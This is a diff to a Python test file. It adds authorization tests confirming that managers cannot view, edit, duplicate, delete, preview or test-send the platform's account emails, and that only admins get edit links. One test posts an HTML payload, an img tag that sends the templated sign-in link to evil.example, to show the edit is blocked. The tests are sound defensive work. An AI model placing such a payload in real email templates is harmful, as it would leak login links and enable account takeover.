@@ -7,7 +7,14 @@ import sqlalchemy as sa
 from tests import factories
 from webapp import outbox
 from webapp.extensions import db as _db
-from webapp.models import Campaign, EmailTemplate, OutboxMessage, Reminder, Trigger
+from webapp.models import (
+    Campaign,
+    EmailTemplate,
+    EmailTemplateVersion,
+    OutboxMessage,
+    Reminder,
+    Trigger,
+)
 
 ROUTES = [
     ("GET", "/campaigns/"),
@@ -70,6 +77,74 @@ def objects(app, users):
         _db.session.commit()
         return {"campaign": campaign.id, "template": template.id, "trigger": trigger.id,
                 "reminder": reminder.id, "used": used.id}
+
+
+# The platform's account emails (confirmation, reset, invitation) carry links that sign their
+# reader in: a manager who could edit them could take over any account. Admins only.
+ACCOUNT_TEMPLATE_ROUTES = [
+    ("GET", "/email-templates/{system}", None),
+    ("POST", "/email-templates/{system}", None),
+    ("POST", "/email-templates/{system}/duplicate", None),
+    ("GET", "/email-templates/{system}/delete", None),
+    ("POST", "/email-templates/{system}/delete", None),
+    ("POST", "/email-templates/preview", "{system}"),
+    ("POST", "/email-templates/send-test", "{system}"),
+]
+
+
+@pytest.fixture
+def system_templates(app, users):
+    from webapp.services import account_emails
+
+    with app.app_context():
+        found = [t.id for t in account_emails.ensure_system_templates().values()]
+        _db.session.commit()
+        return found
+
+
+def _account_template_state(app):
+    with app.app_context():
+        return (
+            _db.session.execute(sa.select(EmailTemplate.id, EmailTemplate.name,
+                                          EmailTemplate.updated_at)).all(),
+            _db.session.execute(sa.select(EmailTemplateVersion.id, EmailTemplateVersion.subject,
+                                          EmailTemplateVersion.body_html)).all(),
+            _db.session.execute(sa.select(OutboxMessage.id)).all(),
+        )
+
+
+@pytest.mark.parametrize("method,path,posted", ACCOUNT_TEMPLATE_ROUTES)
+def test_managers_get_403_on_account_emails_and_change_nothing(app, client, auth,
+                                                              system_templates, method, path,
+                                                              posted):
+    auth.login_as("manager")
+    for system in system_templates:
+        before = _account_template_state(app)
+        data = None
+        if method == "POST":
+            data = {**_data(), "subject_fr": "Reset",
+                    "body_html_fr": '<img src="https://evil.example/?{{ action_url }}">',
+                    "template_id": posted.format(system=system) if posted else str(system)}
+        url = path.format(system=system)
+        assert client.open(url, method=method, data=data).status_code == 403
+        htmx = client.open(url, method=method, data=data, headers={"HX-Request": "true"})
+        assert htmx.status_code == 403 and b"<html" not in htmx.data
+        assert _account_template_state(app) == before
+
+
+def test_managers_see_account_emails_listed_without_a_way_to_edit_them(client, auth,
+                                                                      system_templates):
+    auth.login_as("manager")
+    page = client.get("/email-templates/").get_data(as_text=True)
+    assert "Account: reset the password" in page
+    for system in system_templates:
+        assert f'href="/email-templates/{system}"' not in page
+    auth.logout()
+    auth.login_as("admin")
+    page = client.get("/email-templates/").get_data(as_text=True)
+    for system in system_templates:
+        assert f'href="/email-templates/{system}"' in page
+        assert client.get(f"/email-templates/{system}").status_code == 200
 
 
 def _state(app):
